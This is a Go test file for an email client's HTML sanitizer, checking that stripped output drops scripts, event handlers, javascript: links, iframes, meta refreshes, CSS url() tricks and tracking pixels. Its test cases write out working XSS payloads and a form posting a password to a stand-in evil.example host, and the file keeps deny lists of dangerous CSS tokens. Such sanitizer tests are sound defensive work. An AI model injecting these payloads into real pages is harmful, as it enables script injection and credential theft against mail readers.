package message

import (
	"net/url"
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
	"golang.org/x/text/encoding/charmap"
)

// renderHTML renders an HTML-only message and returns the view.
func renderHTML(t *testing.T, body string, opts RenderOptions) *View {
	t.Helper()
	raw := append(crlf("From: a@example.com\nContent-Type: text/html; charset=utf-8\n\n"), body...)
	v := Render(raw, opts)
	if v.ParseError != "" {
		t.Fatalf("parse error %q", v.ParseError)
	}
	checkSafeHTML(t, v.HTML, opts.AllowRemote)
	return v
}

// docParts splits a sanitized document into its style sheet and its body.
func docParts(t testing.TB, doc string) (sheet, body string) {
	t.Helper()
	i := strings.Index(doc, docBodyStart)
	if !strings.HasPrefix(doc, docHead) || !strings.HasSuffix(doc, docEnd) || i < 0 {
		t.Fatalf("not a complete document: %q", doc)
	}
	head := doc[len(docHead):i]
	if head != "" {
		if !strings.HasPrefix(head, "<style>") || !strings.HasSuffix(head, "</style>") {
			t.Fatalf("unexpected head %q", head)
		}
		sheet = strings.TrimSuffix(strings.TrimPrefix(head, "<style>"), "</style>")
	}
	return sheet, doc[i+len(docBodyStart) : len(doc)-len(docEnd)]
}

// checkSafeSheet fails on a kept style sheet that could end its element,
// load something while remote content is blocked, or run anything.
func checkSafeSheet(t testing.TB, sheet string, allowRemote bool) {
	t.Helper()
	l := strings.ToLower(sheet)
	for _, bad := range []string{"<", "\\", "/*", "@import", "@font-face", "expression", "javascript", "behavior", "-moz-binding", "image-set", "element("} {
		if strings.Contains(l, bad) {
			t.Fatalf("style sheet with %q: %q", bad, sheet)
		}
	}
	if !allowRemote && strings.Contains(l, "url(") {
		t.Fatalf("url() in a style sheet with remote content blocked: %q", sheet)
	}
}

// allowedElements is every element the sanitized output may contain.
var allowedElements = map[string]bool{
	"html": true, "head": true, "meta": true, "base": true, "body": true, // the wrapper only
	"a": true, "abbr": true, "acronym": true, "area": true, "article": true, "aside": true, "b": true, "bdi": true,
	"bdo": true, "blockquote": true, "br": true, "caption": true, "center": true, "cite": true, "code": true,
	"col": true, "colgroup": true, "dd": true, "del": true, "details": true, "dfn": true, "div": true, "dl": true,
	"dt": true, "em": true, "figcaption": true, "figure": true, "font": true, "h1": true, "h2": true, "h3": true,
	"h4": true, "h5": true, "h6": true, "hgroup": true, "hr": true, "i": true, "img": true, "ins": true,
	"li": true, "map": true, "mark": true, "meter": true, "ol": true, "p": true, "pre": true, "progress": true,
	"q": true, "rp": true, "rt": true, "ruby": true, "s": true, "samp": true, "section": true, "small": true,
	"span": true, "strike": true, "strong": true, "sub": true, "summary": true, "sup": true, "table": true,
	"tbody": true, "td": true, "tfoot": true, "th": true, "thead": true, "time": true, "tr": true, "tt": true,
	"u": true, "ul": true, "var": true, "wbr": true,
}

// checkSafeHTML re-tokenizes a rendered document and fails on anything
// that could run script, navigate the frame or load something not allowed.
func checkSafeHTML(t testing.TB, doc string, allowRemote bool) {
	t.Helper()
	sheet, body := docParts(t, doc)
	checkSafeSheet(t, sheet, allowRemote)
	z := xhtml.NewTokenizer(strings.NewReader(body))
	for {
		tt := z.Next()
		if tt == xhtml.ErrorToken {
			return
		}
		if tt == xhtml.CommentToken || tt == xhtml.DoctypeToken {
			t.Fatalf("comment or doctype in output: %q", z.Token())
		}
		if tt != xhtml.StartTagToken && tt != xhtml.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		if !allowedElements[tok.Data] || tok.Data == "html" || tok.Data == "head" || tok.Data == "meta" || tok.Data == "base" || tok.Data == "body" {
			t.Fatalf("element <%s> in output: %q", tok.Data, doc)
		}
		for _, a := range tok.Attr {
			lv := strings.ToLower(a.Val)
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "srcset", a.Key == "action", a.Key == "formaction",
				a.Key == "http-equiv":
				t.Fatalf("attribute %s in output: %q", a.Key, tok)
			case a.Key == "href":
				u, err := url.Parse(a.Val)
				if err != nil || (u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto") {
					t.Fatalf("href %q in output", a.Val)
				}
			case a.Key == "src":
				if tok.Data != "img" {
					t.Fatalf("src on <%s>", tok.Data)
				}
				remote := strings.HasPrefix(lv, "http:") || strings.HasPrefix(lv, "https:")
				if !(a.Val == "" || strings.HasPrefix(a.Val, "/m/42/part/") || strings.HasPrefix(lv, "data:image/") || (remote && allowRemote)) {
					t.Fatalf("img src %q in output (allowRemote %v)", a.Val, allowRemote)
				}
				if strings.HasPrefix(lv, "data:image/svg") {
					t.Fatalf("svg data image in output")
				}
			case a.Key == "style":
				checkSafeStyle(t, a.Val, allowRemote)
			case a.Key == "target":
				if a.Val != "_blank" {
					t.Fatalf("target %q", a.Val)
				}
			case a.Key == "background":
				if !allowRemote {
					t.Fatalf("background attribute in output")
				}
			}
		}
	}
}

func TestSanitizeXSS(t *testing.T) {
	tests := []struct {
		name   string
		html   string
		absent []string // must not appear in the output (lower case)
		keep   []string // must appear
	}{
		{"script", `<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil/x.js></SCRIPT>`, []string{"<script", "alert", "evil"}, []string{"<p>hi</p>"}},
		{"onerror", `<img src=x onerror="alert(1)"><b onmouseover=alert(2)>b</b>`, []string{"onerror", "onmouseover", "alert"}, []string{"<b>b</b>"}},
		{"javascript href", `<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(2)">y</a><a href="java&#x09;script:alert(3)">z</a>`, []string{"javascript", "alert", "href"}, []string{"x", "y", "z"}},
		{"data and vbscript href", `<a href="data:text/html,<script>alert(1)</script>">d</a><a href="vbscript:msgbox">v</a>`, []string{"data:", "vbscript", "href"}, nil},
		{"svg onload", `<svg onload="alert(1)"><script>alert(2)</script><circle r=1 /></svg><svg><a xlink:href="javascript:alert(3)">t</a></svg>`, []string{"<svg", "onload", "alert", "xlink", "<circle"}, nil},
		{"iframe", `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>">`, []string{"<iframe", "evil", "srcdoc", "alert"}, nil},
		{"form", `<form action="https://evil.example/steal" method=post><input name=pw type=password><button formaction="https://evil.example/">Go</button></form>`, []string{"<form", "<input", "<button", "action", "evil"}, []string{"Go"}},
		{"meta refresh", `<html><head><meta http-equiv="refresh" content="0;URL='https://evil.example/'"></head><body>x</body></html>`, []string{"<meta http-equiv", "refresh", "evil"}, []string{"x"}},
		{"meta refresh in body", `<body><meta http-equiv="refresh" content="0;url=https://evil.example/">x</body>`, []string{"refresh", "evil"}, nil},
		{"base href", `<base href="https://evil.example/"><a href="https://ok.example/">ok</a>`, []string{`<base href`, "evil"}, []string{`href="https://ok.example/"`}},
		{"object embed applet", `<object data="evil.swf"></object><embed src="evil.swf"><applet code="x"></applet>`, []string{"<object", "<embed", "<applet", "evil"}, nil},
		{"style url", `<p style="color: red; background: url(http://evil.example/x.png)">x</p><div style="background-image: url('https://evil.example/y')">y</div>`, []string{"url(", "evil"}, []string{"color: red"}},
		{"style expression", `<p style="width: expression(alert(1)); color: blue">x</p>`, []string{"expression", "alert"}, []string{"color: blue"}},
		{"style escapes", `<p style="background: \75 rl(http://evil.example/)">x</p><p style="color: red; /* comment */ -moz-binding: url(x)">y</p>`, []string{"evil", "binding", "url"}, nil},
		{"style position", `<div style="position: fixed; top: 0; left: 0; z-index: 9; color: green">overlay</div>`, []string{"position", "z-index", "top"}, []string{"color: green"}},
		{"style element", `<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/)}</style><p>x</p>`, []string{"<style", "@import", "evil"}, []string{"<p>x</p>"}},
		{"link stylesheet", `<link rel=stylesheet href="https://evil.example/x.css"><p>x</p>`, []string{"<link", "evil"}, nil},
		{"split tag", "<scr<script>ipt>alert(1)</scr</script>ipt><img\nsrc=x\nonerror=alert(1)>", []string{"<script", "onerror"}, nil},
		{"comment tricks", `<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>x</p><!-- --><script>alert(2)</script> -->`, []string{"<script", "<!--", "alert(2)"}, nil},
		{"noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, []string{"onerror"}, nil},
		{"textarea breakout", `<textarea><img src=x onerror=alert(1)></textarea>`, []string{"<textarea", "<img"}, nil},
		{"svg data image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, []string{"svg"}, nil},
		{"data png allowed", `<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`, nil, []string{`src="data:image/png;base64,iVBORw0KGgo="`}},
		{"math", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, []string{"onerror", "<math"}, nil},
		{"html5 vectors", `<video poster=javascript:alert(1)//></video><audio src=x onerror=alert(1)><details open ontoggle=alert(1)>`, []string{"poster", "onerror", "ontoggle", "<video", "<audio"}, nil},
		{"target and rel", `<a href="https://example.com/" target="_self" rel="opener">x</a>`, []string{"_self", `"opener"`}, []string{`<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>`}},
		{"mailto", `<a href="mailto:zoe@example.net">mail</a>`, nil, []string{`href="mailto:zoe@example.net"`}},
		{"relative link dropped", `<a href="/logout">x</a><a href="#top">y</a>`, []string{"logout", "#top"}, nil},
		{"mail formatting kept", `<table border="0" cellpadding="4" bgcolor="#ffffff"><tr><td align="center" valign="top" width="50%"><font face="Arial" color="#333333" size="2">t</font></td></tr></table><center>c</center>`,
			nil, []string{`cellpadding="4"`, `bgcolor="#ffffff"`, `<font face="Arial" color="#333333" size="2">`, `<center>c</center>`, `valign="top"`}},
		{"body attributes", `<html><body style="margin: 0; color: #222" bgcolor="#eeeeee" onload="alert(1)"><p>x</p></body></html>`, []string{"onload"}, []string{`<div style="margin: 0; color: #222" bgcolor="#eeeeee">`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := renderHTML(t, tc.html, RenderOptions{PartURL: partURL})
			_, body := docParts(t, v.HTML)
			body = strings.ToLower(body)
			for _, a := range tc.absent {
				if strings.Contains(body, strings.ToLower(a)) {
					t.Errorf("output contains %q: %s", a, body)
				}
			}
			for _, k := range tc.keep {
				if !strings.Contains(v.HTML, k) {
					t.Errorf("output lacks %q: %s", k, v.HTML)
				}
			}
		})
	}
}

func TestRemoteContent(t *testing.T) {
	const doc = `<p>Hi<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">` +
		`<img src="//cdn.example/logo.png" alt="logo"></p>` +
		`<table background="http://img.example/bg.jpg"><tr><td style="background-image: url('https://img.example/cell.png'); color: red">cell</td></tr></table>`

	v := renderHTML(t, doc, RenderOptions{})
	if !v.RemoteBlocked {
		t.Error("RemoteBlocked not set")
	}
	for _, s := range []string{"tracker.example", "cdn.example", "img.example", "url("} {
		if strings.Contains(v.HTML, s) {
			t.Errorf("blocked output contains %q: %s", s, v.HTML)
		}
	}
	if !strings.Contains(v.HTML, `alt="logo"`) || !strings.Contains(v.HTML, "color: red") {
		t.Errorf("too much removed: %s", v.HTML)
	}

	v = renderHTML(t, doc, RenderOptions{AllowRemote: true})
	if v.RemoteBlocked {
		t.Error("RemoteBlocked set with AllowRemote")
	}
	for _, s := range []string{`src="https://tracker.example/pixel.gif"`, `src="https://cdn.example/logo.png"`, `background="http://img.example/bg.jpg"`, `url(&#39;https://img.example/cell.png&#39;)`} {
		if !strings.Contains(v.HTML, s) {
			t.Errorf("allowed output lacks %s: %s", s, v.HTML)
		}
	}

	// Not remote: nothing to unblock.
	v = renderHTML(t, `<p>plain</p><img src="data:image/gif;base64,R0lGODlh">`, RenderOptions{})
	if v.RemoteBlocked {
		t.Error("RemoteBlocked set without remote content")
	}
}

func TestMixedTextAndHTML(t *testing.T) {
	raw := crlf(`Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html

<p>main</p>
--b
Content-Type: text/plain

footer <script>x</script> https://list.example/unsubscribe.
--b--
`)
	v := Render(raw, RenderOptions{})
	if !strings.Contains(v.HTML, "<p>main</p>") ||
		!strings.Contains(v.HTML, `footer &lt;script&gt;x&lt;/script&gt; <a href="https://list.example/unsubscribe" target="_blank" rel="noopener noreferrer">https://list.example/unsubscribe</a>.`) {
		t.Errorf("html = %s", v.HTML)
	}
	if v.Text != "footer <script>x</script> https://list.example/unsubscribe." {
		t.Errorf("text = %q", v.Text)
	}
	checkSafeHTML(t, v.HTML, false)
}

func TestSanitizeHTMLExported(t *testing.T) {
	doc, blocked := SanitizeHTML(`<img src="https://x.example/a.png"><script>alert(1)</script>ok`, false)
	if !blocked || strings.Contains(doc, "x.example") || strings.Contains(doc, "alert") || !strings.Contains(doc, "ok") {
		t.Errorf("SanitizeHTML = %q, %v", doc, blocked)
	}
	checkSafeHTML(t, doc, false)
}

func TestHTMLCharsetFromMeta(t *testing.T) {
	body := append([]byte(`<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head><body>`), mustEncode(t, charmap.ISO8859_2, "árvíztűrő")...)
	raw := append(crlf("Content-Type: text/html\n\n"), body...)
	v := Render(raw, RenderOptions{})
	if !strings.Contains(v.HTML, "árvíztűrő") {
		t.Errorf("html = %s", v.HTML)
	}
}

// checkSafeStyle checks a sanitized style attribute: only allowlisted
// properties, and no value that loads or runs anything.
func checkSafeStyle(t testing.TB, style string, allowRemote bool) {
	t.Helper()
	allowed := map[string]bool{}
	for _, p := range styleProperties {
		allowed[p] = true
	}
	if allowRemote {
		allowed["background-image"] = true
	}
	for _, decl := range strings.Split(style, ";") {
		if strings.TrimSpace(decl) == "" {
			continue
		}
		prop, val, ok := strings.Cut(decl, ":")
		prop = strings.ToLower(strings.TrimSpace(prop))
		for _, prefix := range []string{"-webkit-", "-moz-", "-ms-", "-o-", "mso-"} {
			prop = strings.TrimPrefix(prop, prefix)
		}
		lv := strings.ToLower(val)
		if !ok || !allowed[prop] {
			t.Fatalf("style property %q in output (%q)", prop, style)
		}
		if strings.Contains(lv, "expression") || strings.Contains(lv, "javascript") || strings.Contains(lv, "\\") ||
			strings.Contains(lv, "@import") || (strings.Contains(lv, "url(") && !allowRemote) {
			t.Fatalf("style value %q in output", val)
		}
		if strings.Contains(lv, "url(") && !strings.Contains(lv, "url(http") && !strings.Contains(lv, "url('http") && !strings.Contains(lv, `url("http`) {
			t.Fatalf("non-http url() in output: %q", val)
		}
	}
}

// TestSanitizeAuthored: HTML written to send goes through the rules mail
// is shown with; each hostile piece is gone, the formatting stays, and
// links get no target or rel of the reader's.
func TestSanitizeAuthored(t *testing.T) {
	tests := []struct {
		name   string
		html   string
		absent []string // lower case
		keep   []string
	}{
		{"script", `<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`, []string{"<script", "alert", "evil"}, []string{"<p>hi</p>"}},
		{"event handlers", `<p onclick="alert(1)">a</p><img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(2)"><b onmouseover=alert(3)>b</b>`,
			[]string{"onclick", "onerror", "onmouseover", "alert"}, []string{"<b>b</b>", `src="data:image/png;base64,iVBORw0KGgo="`}},
		{"javascript links", `<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(2)">y</a><a href="java&#x09;script:alert(3)">z</a>`, []string{"javascript", "alert", "href"}, []string{"x", "y", "z"}},
		{"remote images", `<img src="http://tracker.example/p.gif"><img src="https://tracker.example/q.gif"><img src="//tracker.example/r.gif"><img srcset="https://tracker.example/s.gif 2x">`,
			[]string{"tracker", "<img"}, nil},
		{"style element and import", `<style>@import url(https://evil.example/x.css); p{color:red}</style><p>x</p>`, []string{"<style", "@import", "evil", "color:red"}, []string{"<p>x</p>"}},
		{"style attribute url", `<p style="color: red; background: url(https://evil.example/x.png)">x</p><p style="background-image: url('//evil.example/y')">y</p>`, []string{"url(", "evil"}, []string{"color: red"}},
		{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>`, []string{"<link", "evil"}, nil},
		{"forms", `<form action="https://evil.example/steal" method="post"><input name="pw" type="password"><button formaction="https://evil.example/">Go</button><textarea>t</textarea></form>`,
			[]string{"<form", "<input", "<button", "<textarea", "action", "evil"}, []string{"Go"}},
		{"frames and objects", `<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">`, []string{"<iframe", "<object", "<embed", "evil"}, nil},
		{"meta and base", `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><p>x</p>`, []string{"<meta", "<base", "evil"}, nil},
		{"svg", `<svg onload="alert(1)"><a xlink:href="javascript:alert(2)">t</a></svg>`, []string{"<svg", "onload", "alert", "xlink"}, nil},
		{"formatting kept", `<p><strong>b</strong> <em>i</em></p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>q</p></blockquote><a href="https://example.com/">l</a>`,
			[]string{"target=", "noopener"}, []string{"<strong>b</strong>", "<em>i</em>", "<ul><li>one</li>\n</ul>\n", "<ol><li>two</li>\n</ol>\n", "<blockquote><p>q</p>\n</blockquote>\n", `href="https://example.com/"`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := SanitizeAuthored(tc.html)
			lower := strings.ToLower(got)
			for _, a := range tc.absent {
				if strings.Contains(lower, a) {
					t.Errorf("output contains %q: %s", a, got)
				}
			}
			for _, k := range tc.keep {
				if !strings.Contains(got, k) {
					t.Errorf("output lacks %q: %s", k, got)
				}
			}
			if again := SanitizeAuthored(got); again != got {
				t.Errorf("sanitizing twice changes it:\n%q\n%q", got, again)
			}
		})
	}
}

// TestAuthoredLines: a line break after each block and <br>, none inside
// <pre>, and a complete document around the fragment.
func TestAuthoredLines(t *testing.T) {
	got := SanitizeAuthored("<p>a<br>b</p><pre>x<br>\n</pre><p>c</p>")
	if want := "<p>a<br>\nb</p>\n<pre>x<br>\n</pre>\n<p>c</p>\n"; got != want {
		t.Errorf("SanitizeAuthored = %q, want %q", got, want)
	}
	doc := AuthoredDocument(got)
	if !strings.HasPrefix(doc, "<!DOCTYPE html>\n<html>\n<head>\n") || !strings.HasSuffix(doc, "<body>\n"+strings.TrimSpace(got)+"\n</body>\n</html>\n") ||
		!strings.Contains(doc, `charset=UTF-8`) {
		t.Errorf("AuthoredDocument = %q", doc)
	}
}
